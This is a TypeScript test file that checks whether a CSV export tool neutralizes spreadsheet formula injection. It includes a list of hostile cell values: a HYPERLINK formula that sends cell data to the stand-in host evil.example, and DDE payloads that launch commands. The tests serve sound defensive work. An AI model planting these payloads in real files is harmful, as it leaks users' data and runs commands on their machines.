import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { neutralizeFormula } from '../src/export/csv-cell.ts';
import { exportRecords } from '../src/export/export-records.ts';
import { importFile } from '../src/import/import-file.ts';
import { describeEachBackend } from './helpers/backends.ts';
import { emptiedTestDb } from './helpers/empty-db.ts';

/** Values an attacker can plant through an import (or a scraped page): each one a formula. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

it('neutralizes every OWASP trigger, leaves plain numbers and ordinary text alone', () => {
  for (const v of HOSTILE) expect(neutralizeFormula(v)).toBe(`'${v}`);
  for (const v of ['+15551234567', '-12.5', '42', 'Pine Hollow', 'a=b', '', "'already"])
    expect(neutralizeFormula(v)).toBe(v);
});

describeEachBackend('export: spreadsheet formula injection', (backend) => {
  const db = emptiedTestDb(backend);

  async function exportCsv(raw: boolean): Promise<{ text: string; rows: Record<string, string>[] }> {
    let text = '';
    const out = new Writable({
      write(chunk, _enc, done) {
        text += chunk;
        done();
      },
    });
    await exportRecords(db, out, { kind: 'accounts', raw });
    return {
      text,
      rows: parse(text, { columns: true, relax_column_count: true }) as Record<string, string>[],
    };
  }

  it('prefixes formula cells with a quote; --raw writes them as stored', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sluice-formula-'));
    const file = join(dir, 'hostile.csv');
    const quote = (v: string) => `"${v.replaceAll('"', '""')}"`;
    const lines = ['name,website,phone,industry,=evil_column'];
    // Import trims names, so the tab/CR forms are covered by the unit test above.
    const planted = HOSTILE.filter((v) => !/^\s/.test(v));
    planted.forEach((v, i) => {
      lines.push([quote(v), `club${i}.com`, '+1 434 555 0100', quote(v), quote(v)].join(','));
    });
    writeFileSync(file, `${lines.join('\n')}\n`);
    const imported = await importFile(db, { file, kind: 'accounts' });
    expect(imported.inserted).toBe(planted.length);

    const safe = await exportCsv(false);
    const names = safe.rows.map((r) => r.name);
    expect(names.sort()).toEqual(planted.map((v) => `'${v}`).sort());
    for (const r of safe.rows) {
      expect(r.industry).toMatch(/^'/);
      expect(r.phone).toBe('+14345550100');
      expect(r.evil_column).toMatch(/^'/);
      // Every cell is already safe: neutralizing it again changes nothing.
      for (const v of Object.values(r)) expect(neutralizeFormula(v)).toBe(v);
    }

    const raw = await exportCsv(true);
    expect(raw.rows.map((r) => r.name).sort()).toEqual([...planted].sort());
  });
});
